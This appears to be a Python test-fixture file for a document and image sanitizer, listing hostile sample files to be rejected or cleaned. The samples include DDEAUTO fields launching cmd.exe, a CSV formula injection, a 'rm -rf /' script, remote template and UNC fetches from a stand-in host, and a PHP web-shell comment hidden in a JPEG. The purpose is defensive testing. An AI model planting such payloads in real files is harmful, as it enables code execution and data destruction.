    ("pptx", lambda: comprimir({"[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(b"wordprocessingml.document", b"presentationml.presentation"), "_rels/.rels": partes_docx()["_rels/.rels"], "word/document.xml": b"<p/>"})),
    ("odt", lambda: comprimir({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "META-INF/manifest.xml": b"<a/>"})),
    ("docx-y-odt", con_partes({"mimetype": b"application/vnd.oasis.opendocument.text"})),
    ("jar", lambda: comprimir({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    ("docx-y-jar", con_partes({"META-INF/MANIFEST.MF": b"Main-Class: A"})),
    ("zip", lambda: comprimir({"a.txt": b"hola"})),
    ("zip-vacio", lambda: b"PK\x05\x06" + b"\0" * 18),
    ("zip-solo-inicio", lambda: b"PK\x03\x04"),
    ("dde", _cuerpo(_CAMPO.format(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    ("dde-partido", _cuerpo(_CAMPO.format(" DDE") + "<w:r><w:instrText>AUTO cmd</w:instrText></w:r>")),
    ("dde-escapado", _cuerpo(_CAMPO.format(" &#68;&#x44;EAUTO cmd"))),
    ("dde-simple", _cuerpo('<w:fldSimple w:instr="DDEAUTO cmd"/>')),
    ("incluir-unc", _cuerpo(_CAMPO.format('INCLUDEPICTURE "\\\\malo\\x.png"'))),
]  # fmt: skip


# --- DOC -------------------------------------------------------------------------------------------------------------
def _fat_en_circulo() -> bytes:
    datos = bytearray(doc())
    fat = 512 + 4 * 10
    struct.pack_into("<I", datos, fat, 9)
    struct.pack_into("<I", datos, 512 + 4 * 9, 10)
    return bytes(datos)


DOC_HOSTILES: list[Hostil] = [
    ("macros", lambda: doc(**{"Macros/VBA/dir": b"x"})),
    ("macros-en-otra-carpeta", lambda: doc(**{"Otros/_VBA_PROJECT": b"x"})),
    ("vba", lambda: doc(**{"VBA/ThisDocument": b"x"})),
    ("ole10native", lambda: doc(**{"ObjectPool/_1/\x01Ole10Native": b"MZ"})),
    ("ole10native-en-raiz", lambda: doc(**{"\x01Ole10Native": b"MZ"})),
    ("paquete", lambda: doc(**{"Cosa/Package": b"PK"})),
    ("objeto", lambda: doc(**{"ObjectPool/_1234/\x01CompObj": b"x"})),
    ("con-clave", lambda: doc(banderas=0x0300)),
    ("ofuscado", lambda: doc(banderas=0x8200)),
    ("docx-con-clave", lambda: compuesto({"EncryptionInfo": b"x", "EncryptedPackage": b"x"})),
    ("xls", lambda: compuesto({"Workbook": b"x"})),
    ("xls-viejo", lambda: compuesto({"Book": b"x"})),
    ("ppt", lambda: compuesto({"PowerPoint Document": b"x", "Current User": b"x"})),
    ("msi", lambda: compuesto({"\u4840\u3b3f\u43f2\u4438\u45b1": b"x", "\x05SummaryInformation": b"x"})),
    ("msg", lambda: compuesto({"__properties_version1.0": b"x"})),
    ("doc-y-xls", lambda: doc(Workbook=b"x")),
    ("sin-tabla", lambda: doc(banderas=0)),
    ("marca-mala", lambda: doc(marca=0x1234)),
    ("sin-texto", lambda: compuesto({"Otra cosa": b"x"})),
    ("solo-inicio", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("cabecera-de-ceros", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
    ("cabecera-de-unos", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096),
    ("cortado", lambda: doc()[:1500]),
    ("fat-en-circulo", _fat_en_circulo),
    ("zip-detras", lambda: doc() + docx()),
    ("dde", lambda: doc(b"hola \x13 DDEAUTO c:\\cmd.exe \x14 \x15")),
    ("dde-utf16", lambda: doc(b"\x13\0" + " DDEAUTO cmd".encode("utf-16-le"))),
    ("plantilla-remota", lambda: doc(**{"1Table": "https://malo.example/x.dotm".encode("utf-16-le")})),
]  # fmt: skip

OTROS_HOSTILES: list[Hostil] = [
    ("exe", lambda: b"MZ\x90\0" + b"\0" * 200),
    ("elf", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200),
    ("html", lambda: b"<!doctype html><script>alert(1)</script>"),
    ("html-con-bom", lambda: b"\xef\xbb\xbf<html>"),
    ("xml", lambda: b'<?xml version="1.0"?><a/>'),
    ("rtf", lambda: b"{\\rtf1 hola}"),
    ("rtf-con-objeto", lambda: b"{\\rtf1{\\object\\objdata 0105}}"),
    ("texto", lambda: b"hola"),
    ("csv", lambda: b"=cmd|' /C calc'!A0,1\n"),
    ("guion", lambda: b"#!/bin/sh\nrm -rf /\n"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60),
    ("rar", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 60),
    ("gz", lambda: b"\x1f\x8b\x08" + b"\0" * 60),
    ("ps", lambda: b"%!PS-Adobe-3.0\nquit\n"),
    ("mp4", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 60),
    ("mht", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
    ("lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    ("swf", lambda: b"CWS\x0a" + b"\0" * 60),
    ("class", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34"),
    ("ceros", lambda: b"\0" * 10_000),
    ("vacio", lambda: b""),
    ("un-byte", lambda: b"%"),
    ("bmp-con-pdf-lejos", lambda: b"BM" + b"\0" * 900 + pdf()),
]  # fmt: skip

HOSTILES: list[Hostil] = [
    (f"{clase}-{nombre}", hacer)
    for clase, lista in (
        ("pdf", PDF_HOSTILES),
        ("imagen", IMAGENES_HOSTILES),
        ("docx", DOCX_HOSTILES),
        ("doc", DOC_HOSTILES),
        ("otro", OTROS_HOSTILES),
    )
    for nombre, hacer in lista
]


# --- Images that pass, made clean ------------------------------------------------------------------------------------
def png_animado() -> bytes:
    salida = io.BytesIO()
    cuadros = [Image.new("RGB", (40, 40), color) for color in ("red", "blue")]
    cuadros[0].save(salida, "PNG", save_all=True, append_images=cuadros[1:], duration=100)
    return salida.getvalue()


SUCIAS: list[Hostil] = [
    ("jpg-con-posicion", lambda: jpg(gps=True)),
    ("jpg-con-zip", lambda: jpg() + docx()),
    ("jpg-con-html", lambda: jpg() + b"<script>alert(1)</script>"),
    ("jpg-con-comentario-php", lambda: jpg()[:2] + b"\xff\xfe\x00\x20<?php system($_GET[0]); ?>ab" + jpg()[2:]),
    ("png-con-zip", lambda: png() + docx()),
    ("png-con-html", lambda: png() + b"<script>alert(1)</script>"),
    ("png-con-texto", lambda: png_a_mano(2, 2, ceros(14), _trozo_png(b"tEXt", b"Comment\0<script>alert(1)</script>"))),
    ("png-animado", png_animado),
]  # fmt: skip
